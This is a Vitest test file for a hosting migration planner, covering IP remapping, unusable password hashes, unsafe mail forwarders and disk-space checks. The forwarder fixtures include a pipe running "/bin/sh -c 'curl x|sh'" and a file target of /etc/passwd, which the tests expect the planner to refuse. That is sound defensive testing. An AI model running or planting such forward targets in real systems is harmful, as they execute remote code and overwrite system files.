import { describe, expect, it } from "vitest"
import { makePasswordHash } from "../src/index.ts"
import {
  account,
  action,
  content,
  database,
  databaseUser,
  decision,
  domain,
  forwarder,
  ftpUser,
  hostingAccount,
  issue,
  issues,
  mailbox,
  mailDomain,
  run,
  site,
  snapshot,
  without,
} from "./support/Entities.ts"
import { fullProfile, panelInventory } from "./support/Profiles.ts"

describe("ip-mapping", () => {
  const snap = snapshot([
    account("jack", { ipPool: ["203.0.113.50"] }),
    domain("jack.example", "jack", { ips: ["203.0.113.50", "2001:db8::1"] }),
    domain("kept.example", "jack", { kind: "addon", ips: ["198.51.100.5"] }),
  ])

  it("unknown source addresses move to the server's first address (warning, ip A → B)", () => {
    const plan = run(snap)
    const found = issues(plan, "ip-not-found")
    expect(found.map((f) => [f.title, f.entities])).toEqual([
      ["IP address not found", ["account:jack", "domain:jack.example"]],
      ["IP address not found", ["domain:jack.example"]],
    ])
    expect(found[0]?.resolution).toBe("imported on 192.0.2.10 instead (map 203.0.113.50 to choose another address)")
    expect(decision(plan, "domain:jack.example").changes).toEqual([
      { field: "ip", from: "203.0.113.50", to: "192.0.2.10" },
      { field: "ip", from: "2001:db8::1", to: "192.0.2.10" },
    ])
    expect(action(plan, "domain:kept.example")).toBe("import")
  })

  it("mapped addresses follow the map; a map to an address the server lacks blocks", () => {
    const plan = run(snap, { options: { ipMap: { "203.0.113.50": "198.51.100.5", "198.51.100.5": "192.0.2.10" } } })
    expect(issues(plan, "ip-mapped").map((i) => i.title)).toEqual(["IP address mapping", "IP address mapping"])
    expect(decision(plan, "account:jack").changes).toEqual([{ field: "ip", from: "203.0.113.50", to: "198.51.100.5" }])
    expect(decision(plan, "domain:kept.example").changes).toEqual([{ field: "ip", from: "198.51.100.5", to: "192.0.2.10" }])
    const bad = run(snap, { options: { ipMap: { "203.0.113.50": "10.9.9.9" } } })
    expect(issue(bad, "ip-map-unknown-address")).toMatchObject({ blocking: true, count: 0 })
    expect(bad.blocked).toBe(true)
  })

  it("a merge target's own address is preferred", () => {
    const merged = snapshot([account("zed"), domain("zed.example", "zed", { ips: ["203.0.113.50"] })])
    const plan = run(merged, { inventory: panelInventory, options: { owner: "carol" } })
    expect(decision(plan, "domain:zed.example").changes).toContainEqual({ field: "ip", from: "203.0.113.50", to: "198.51.100.5" })
  })

  it("removing the check keeps the source addresses", () => {
    expect(action(run(snap, { checks: without("ip-mapping") }), "domain:jack.example")).toBe("import")
  })
})

describe("password-schemes", () => {
  const snap = snapshot([
    account("jack", { passwordHash: makePasswordHash("des-crypt", "abcdefghijklm") }),
    domain("jack.example", "jack"),
    mailDomain("jack.example", "jack"),
    mailbox("ok@jack.example", "jack", { passwordHash: makePasswordHash("sha512-crypt", "$6$s$h") }),
    mailbox("plain@jack.example", "jack", { passwordHash: makePasswordHash("plain", "secret") }),
    mailbox("odd@jack.example", "jack", { passwordHash: makePasswordHash("unknown", "{XYZ}abc") }),
    databaseUser("jack_a", "jack", { passwordHash: makePasswordHash("caching-sha2", "$A$005$x") }),
    databaseUser("jack_pg", "jack", { engine: "postgresql", passwordHash: makePasswordHash("postgres-scram", "SCRAM-SHA-256$4096:a$b:c") }),
    ftpUser("up@jack.example", "jack", { passwordHash: makePasswordHash("plesk-sym", "x") }),
    site("jack.example", "jack", {
      protectedDirectories: [{ path: "admin", users: [{ login: "boss", passwordHash: makePasswordHash("unknown", "$apr1$x$y") }] }],
    }),
  ])

  it("hashes a service cannot use get a new password, listed per service and scheme", () => {
    const plan = run(snap)
    const found = issues(plan, "password-unusable")
    expect(found.map((f) => [f.message.split(":")[0], f.entities])).toEqual([
      ["des-crypt password hashes, which the receiving system accounts cannot use", ["account:jack"]],
      ["passwords in an unrecognised format, which the receiving mail server cannot use", ["mailbox:odd@jack.example"]],
      ["caching-sha2 password hashes, which the receiving MySQL server cannot use", ["dbuser:mysql:jack_a"]],
      ["plesk-sym password hashes, which the receiving FTP server cannot use", ["ftpuser:up@jack.example"]],
      ["passwords in an unrecognised format, which the receiving web server (protected directories) cannot use", ["site:jack.example"]],
    ])
    expect(found[0]).toMatchObject({
      severity: "warning",
      title: "Password hashes the target cannot use",
      resolution: "imported with a new password; the report lists every one (passwords are never reset silently)",
    })
    expect(decision(plan, "mailbox:odd@jack.example")).toMatchObject({ action: "import-with-changes", newPasswords: ["mail"] })
    expect(decision(plan, "dbuser:mysql:jack_a").newPasswords).toEqual(["mysql"])
    // plain is hashed for the target; supported schemes pass.
    expect(action(plan, "mailbox:plain@jack.example")).toBe("import")
    expect(action(plan, "mailbox:ok@jack.example")).toBe("import")
    expect(action(plan, "dbuser:postgresql:jack_pg")).toBe("import")
    // No hash value in the plan.
    expect(JSON.stringify(plan)).not.toContain("{XYZ}abc")
  })

  it("removing the check keeps the hashes", () => {
    expect(decision(run(snap, { checks: without("password-schemes") }), "mailbox:odd@jack.example").newPasswords).toEqual([])
  })
})

describe("mail-forward-targets", () => {
  const snap = snapshot([
    account("jack"),
    domain("jack.example", "jack"),
    mailDomain("jack.example", "jack"),
    mailDomain("jack.net", "jack", { catchAll: { action: "forward", target: "|/usr/bin/procmail" } }),
    forwarder("pipe@jack.example", "jack", [{ kind: "pipe", value: "/bin/sh -c 'curl x|sh'" }]),
    forwarder("file@jack.example", "jack", [{ kind: "file", value: "/etc/passwd" }]),
    forwarder("inc@jack.example", "jack", [{ kind: "include", value: "/etc/aliases.more" }]),
    forwarder("mixed@jack.example", "jack", [
      { kind: "address", value: "boss@jack.example" },
      { kind: "pipe", value: "/usr/local/bin/ticket" },
    ]),
    forwarder("ok@jack.example", "jack", [{ kind: "address", value: "boss@elsewhere.example" }]),
  ])

  it("programs, files and :include: are refused; mixed forwarders keep their addresses", () => {
    const plan = run(snap)
    expect(issue(plan, "forward-target-unsafe")).toMatchObject({
      severity: "critical",
      entities: ["forwarder:pipe@jack.example", "forwarder:file@jack.example", "forwarder:inc@jack.example"],
    })
    expect(issue(plan, "forward-target-unsafe").resolution).toContain("not imported")
    expect(issue(plan, "forward-target-unsafe-removed").severity).toBe("warning")
    expect(decision(plan, "forwarder:mixed@jack.example").changes).toEqual([
      { field: "targets", from: "boss@jack.example, |/usr/local/bin/ticket", to: "boss@jack.example" },
    ])
    expect(decision(plan, "maildomain:jack.net").changes).toEqual([
      { field: "catchAll", from: "forward to |/usr/bin/procmail", to: "bounce" },
    ])
    expect(action(plan, "forwarder:ok@jack.example")).toBe("import")
  })

  it("removing the check imports them", () => {
    expect(action(run(snap, { checks: without("mail-forward-targets") }), "forwarder:pipe@jack.example")).toBe("import")
  })
})

describe("disk-space", () => {
  const MiB = 1024 ** 2
  const snap = snapshot(
    [...hostingAccount("jack", "jack.example"), ...hostingAccount("jill", "jill.example")],
    [
      content("content:web:jack.example", "web", 100 * MiB),
      content("content:mail:info@jack.example", "mail", 50 * MiB),
      content("content:dump:jack_wp", "database-dump", 10 * MiB),
      content("content:home:jack", "home", 5 * MiB),
      content("content:web:jill.example", "web", 400 * MiB),
    ],
  )

  it("web + mail + home + 2 × dumps + 64 MiB against the free space", () => {
    const needed = (100 + 50 + 5 + 400 + 2 * 10 + 64) * MiB
    expect(run(snap, { capabilities: { ...fullProfile, diskFreeBytes: needed } }).blocked).toBe(false)
    const plan = run(snap, { capabilities: { ...fullProfile, diskFreeBytes: needed - 1 } })
    const found = issue(plan, "disk-space")
    expect(found).toMatchObject({ severity: "critical", blocking: true, title: "Not enough disk space" })
    expect(found.message).toContain(`(${needed} bytes)`)
    expect(found.message).toContain(`(${needed - 1} bytes) free`)
    expect(plan.blocked).toBe(true)
  })

  it("only what is still imported counts", () => {
    const needed = (100 + 50 + 5 + 2 * 10 + 64) * MiB
    const plan = run(snap, { capabilities: { ...fullProfile, diskFreeBytes: needed }, options: { users: ["jack"] } })
    expect(plan.blocked).toBe(false)
  })

  it("removing the check does not block", () => {
    expect(run(snap, { capabilities: { ...fullProfile, diskFreeBytes: 1 }, checks: without("disk-space") }).blocked).toBe(false)
  })
})

describe("database dumps and mapping together", () => {
  it("a database skipped for another reason is not counted nor mapped", () => {
    const snap = snapshot(
      [account("jack"), database("jack_old", "jack", { sourceServerVersion: "5.5.5-MariaDB", dump: "content:dump:old" })],
      [content("content:dump:old", "database-dump", 1024 ** 3)],
    )
    const plan = run(snap, { capabilities: { ...fullProfile, mysql: [], diskFreeBytes: 100 * 1024 ** 2 } })
    expect(plan.blocked).toBe(false)
    expect(issues(plan, "mysql-version-not-found")).toEqual([])
  })
})
